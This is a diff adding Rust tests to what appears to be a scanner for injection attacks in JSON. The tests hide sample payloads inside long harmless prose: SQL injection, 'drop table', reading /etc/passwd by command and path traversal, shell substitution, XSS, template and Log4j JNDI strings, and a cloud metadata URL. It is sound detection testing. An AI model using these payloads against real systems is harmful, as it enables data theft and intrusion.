@@ -56,6 +56,44 @@ fn nothing_hides_in_a_long_string_or_behind_what_is_no_json() {
     assert_eq!(lookup(r#"{"a": ${jndi:ldap://a}, "#), ["log4j "]);
 }
 
+/// Prose with the marks that the engine passes over.
+const PROSE: &str = "The order was shipped on Monday, and it should arrive by the end of the week. \
+    \"It is fine,\" she said to them; we wait for it.\nThen the customer called -- the cats' toys \
+    were late. We select a supplier where prices are low, in order by date.\n\n- It’s “good”. ";
+
+#[test]
+fn nothing_hides_in_prose() {
+    let before = PROSE.repeat(20);
+    for attack in [
+        "x' or 1=1 -- ",
+        "1' union select null, version() -- ",
+        "1; drop table users",
+        "; cat /etc/passwd",
+        "x\n/bin/cat /etc/passwd",
+        "`id`; $(whoami)",
+        "<script>alert(1)</script>",
+        "\" onmouseover=alert(1) x=\"",
+        "{{7*7}} ${7*7}",
+        "${jndi:ldap://example.com/a}",
+        "../../../etc/passwd",
+        "http://169.254.169.254/latest/",
+        "a\u{202e}b",
+    ] {
+        let json = serde_json::json!({ "a": format!("{before} {attack} {PROSE}") }).to_string();
+        assert!(!in_json(&json).is_empty(), "{attack}");
+    }
+    let json = serde_json::json!({ "a": before.repeat(20) }).to_string();
+    assert_eq!(in_json(&json), [""; 0]);
+}
+
+#[test]
+fn a_megabyte_of_prose_takes_a_fraction_of_the_work() {
+    let json = serde_json::json!({ "a": PROSE.repeat(4_000) }).to_string();
+    let mut work = Work::new(SCAN_WORK);
+    inspect_json(json.as_bytes(), Families::ALL, &mut work, &mut |_| ()).unwrap();
+    assert!(SCAN_WORK - work.left() < 3 * json.len() as u64, "{}", SCAN_WORK - work.left());
+}
+
 #[test]
 fn forms_and_parts_are_named() {
     let at = |finding: Finding| (finding.family == Family::Log4j).then_some(finding.at);
